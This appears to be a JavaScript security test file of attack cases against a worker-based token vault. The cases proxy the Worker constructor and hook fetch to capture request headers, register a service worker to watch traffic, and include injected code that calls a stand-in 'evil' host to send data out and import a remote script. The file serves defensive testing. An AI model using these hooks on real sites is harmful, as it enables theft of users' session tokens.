/** Attacks that get between the worker and the network, or take the place of the worker. */

export const worker = [
  {
    id: 'C-010',
    title: "Start the application's worker inside the attacker's own",
    inPage: true,
    expects: { localStorage: 'nothing', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: "the policy allows no such worker, and the server gives the vault's script only to a worker load",
    early: true,
    unready: true,
    plant: ({ keep }) => {
      window.Worker = new Proxy(Worker, {
        construct(Worker, [script]) {
          const hook = (script, origin) => {
            const { fetch, importScripts } = self;
            self.fetch = (input, init) => {
              const headers = [...new Headers(init?.headers ?? input.headers)];
              self.postMessage({ heard: [String(input.url ?? input), headers] });
              return fetch(new URL(input.url ?? input, origin), init);
            };
            try {
              importScripts(script);
            } catch (error) {
              self.postMessage({ failed: error.name });
            }
          };
          const source = `(${hook})(${JSON.stringify(new URL(script, location.origin).href)}, ${JSON.stringify(location.origin)})`;
          const worker = Reflect.construct(Worker, [URL.createObjectURL(new Blob([source], { type: 'text/javascript' }))]);
          // The client gets no message of the failure, and must notice by itself.
          worker.addEventListener('message', (event) => {
            keep('worker', event.data);
            if (event.data?.heard || event.data?.failed) event.stopImmediatePropagation();
          });
          return worker;
        },
      });
    },
    run: async ({ pause, patience = 14_000 }) => {
      const status = document.querySelector('#status');
      const began = performance.now();
      while (status.textContent.startsWith('starting') && performance.now() - began < patience) await pause(50);
      await pause(200);
      return status.textContent;
    },
  },
  {
    id: 'C-016',
    title: 'Register a service worker that sees every request',
    inPage: true,
    expects: { localStorage: 'taken', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: 'the server refuses every script for a service worker, and the policy does not let the page register one',
    run: async ({ keep, attempt, pause, upload, work }) => {
      navigator.serviceWorker.addEventListener('message', ({ data }) => keep('service worker', data));
      navigator.serviceWorker.startMessages();
      const tried = {};
      for (const script of [upload, '/main.js']) {
        tried[script] = await attempt(async () => {
          await navigator.serviceWorker.register(script);
          await navigator.serviceWorker.ready;
        });
      }
      await pause(300);
      const said = await work();
      await pause(100);
      const planted = await navigator.serviceWorker.getRegistrations();
      for (const registration of planted) await registration.unregister();
      return { tried, planted: planted.length, said };
    },
  },
  {
    id: 'C-023',
    title: "Import the worker's script into a worker with a hooked fetch",
    inPage: true,
    expects: { localStorage: 'nothing', memory: 'nothing', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
    why: "the server gives the vault's script only to a worker load, which an import cannot imitate",
    run: async ({ keep, attempt, script }) =>
      attempt(async () => {
        const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
        const hook = (origin) => {
          const { fetch, Object } = self;
          self.importScripts = () => {};
          self.fetch = (input, init) => {
            self.postMessage([String(input.url ?? input), [...new Headers(init?.headers ?? input.headers)]]);
            return fetch(new URL(input.url ?? input, origin), init);
          };
          for (const name of ['assign', 'freeze', 'keys']) {
            const original = Object[name];
            Object[name] = (...args) => (self.postMessage(JSON.stringify(args)), original(...args));
          }
        };
        const first = blob(`(${hook})(${JSON.stringify(location.origin)})`);
        const whole = blob(`import ${JSON.stringify(first)}; import ${JSON.stringify(location.origin + script)}; self.postMessage('imported');`);
        const worker = new Worker(whole, { type: 'module' });
        const said = await new Promise((resolve) => {
          worker.onerror = () => resolve('refused');
          worker.onmessage = ({ data }) => {
            keep('worker', data);
            if (data === 'imported') setTimeout(() => resolve('imported'), 500);
          };
        });
        worker.terminate();
        return said;
      }),
  },
  {
    id: 'I-10',
    title: "Run inside the vault's worker, and send the token away",
    why: "the worker's own policy lets it connect to its own server only",
    early: true,
    unready: true,
    /** The code that the attacker got into the worker's script. */
    infect: async (evil) => {
      const attempt = (act) => Promise.resolve().then(act).then(() => 'done', (error) => error.name);
      const said = {
        'a connection abroad': await attempt(() => fetch(`${evil}/collect`, { mode: 'no-cors' })),
        'a connection home': await attempt(() => fetch('/api/me')),
        'a script from abroad': await attempt(() => self.importScripts(`${evil}/ran.js`)),
        'a script of our own': await attempt(() => self.importScripts('/upload.js')),
        'a worker of its own': await attempt(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
        eval: await attempt(() => (0, eval)('1')),
      };
      new BroadcastChannel('infected').postMessage(said);
    },
    plant: () => {
      window.said = new Promise((resolve) => (new BroadcastChannel('infected').onmessage = ({ data }) => resolve(data)));
    },
    run: () => window.said,
  },
];
